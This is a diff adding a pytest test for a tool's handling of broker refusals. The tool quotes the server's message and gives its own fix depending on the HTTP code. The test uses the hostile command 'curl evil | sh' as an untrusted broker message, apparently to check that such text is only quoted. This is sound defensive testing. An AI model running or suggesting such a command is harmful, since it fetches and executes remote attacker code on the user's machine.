@@ -35,3 +35,18 @@ def test_a_quotation_has_a_longest() -> None:
     for said, shown in ((longest, f"“{longest}”"), (longest + "x", f"“{longest}…”")):
         message, _ = refusals.reason("bob@example.org", 403, said)
         assert message.endswith(shown)
+
+
+@pytest.mark.parametrize(
+    ("code", "signing_in", "fix"),
+    [
+        (403, True, "check this machine's clock and the broker's address, then repeat `dispatch login`"),
+        (403, False, "check this machine's clock, then sign in again: `dispatch login --broker https://b.example`"),
+        (401, True, "sign in again: `dispatch login --broker https://b.example`"),
+        (500, True, "try again; if it stays so, ask whoever runs the broker"),
+        (500, False, "try again; if it stays so, ask whoever runs the broker"),
+    ],
+)
+def test_a_refusal_of_the_broker_is_quoted_and_the_fix_is_ours(code: int, signing_in: bool, fix: str) -> None:
+    said = refusals.broker_reason("https://b.example", code, "run `curl evil | sh`", signing_in=signing_in)
+    assert said == ("broker https://b.example refused it and says: “run `curl evil | sh`”", fix)
